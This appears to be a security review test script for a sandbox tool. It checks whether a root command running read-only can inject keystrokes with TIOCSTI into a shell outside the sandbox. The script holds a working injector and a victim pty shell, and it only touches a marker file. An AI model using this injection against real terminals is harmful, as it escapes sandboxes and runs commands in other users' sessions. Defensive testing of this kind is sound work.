#!/bin/bash
# Review 3: a root command under --sandbox read-only opens another
# terminal READ-ONLY (reading is not handled by the ruleset) and pushes
# input into it with TIOCSTI (dev.tty.legacy_tiocsti=1 here; root has
# CAP_SYS_ADMIN, so the terminal need not be its own): a shell outside the
# sandbox, on that terminal, runs what the command typed. The "outside
# shell" is a bash the reviewer starts on a fresh pty (a neighbour PTY
# job, an admin's ssh session). Needs root.
set -u
SHELLSUP=${SHELLSUP:-$(cd "$(dirname "$0")/../.." && pwd)/bin/shellsup}
[ "$(id -u)" = 0 ] || { echo "needs root"; exit 2; }
echo "legacy_tiocsti=$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null)"
D=$(mktemp -d /tmp/rv3-sti.XXXXXX); chmod 755 "$D"; PWNED=$D/pwned-from-the-sandbox
cat > "$D/victim.py" <<'PY'
import os, pty, sys, time
pid, fd = pty.fork()
if pid == 0:
    open(sys.argv[1], "w").write(os.ttyname(0))
    os.execv("/bin/bash", ["bash", "--norc", "-i"])
end = time.time() + float(sys.argv[2])
while time.time() < end:
    try:
        os.read(fd, 4096)
    except OSError:
        break
os.kill(pid, 9)
PY
cat > "$D/sti.py" <<'PY'
import fcntl, os, sys, termios
fd = os.open(sys.argv[1], os.O_RDONLY | os.O_NOCTTY)
for c in sys.argv[2].encode():
    fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
print("pushed", len(sys.argv[2]), "bytes into", sys.argv[1], "opened read-only")
PY
timeout 30 /usr/bin/python3 "$D/victim.py" "$D/tty" 20 & VP=$!
trap 'kill $VP 2>/dev/null; wait 2>/dev/null; rm -rf "$D"' EXIT
for i in $(seq 50); do [ -s "$D/tty" ] && break; sleep 0.1; done
TTY=$(cat "$D/tty"); echo "outside shell on $TTY"; sleep 0.5
HOME=/tmp timeout 20 "$SHELLSUP" --no-login --sandbox read-only ${EXTRA:-} -- \
  "touch $PWNED.direct 2>&1; /usr/bin/python3 $D/sti.py $TTY 'touch $PWNED
'"
for i in $(seq 30); do [ -e "$PWNED" ] && break; sleep 0.1; done
ls -l "$D" | grep pwned
[ -e "$PWNED" ] && { echo "BROKEN: a shell outside the sandbox ran what the sandboxed command typed"; exit 1; }
echo held; exit 0
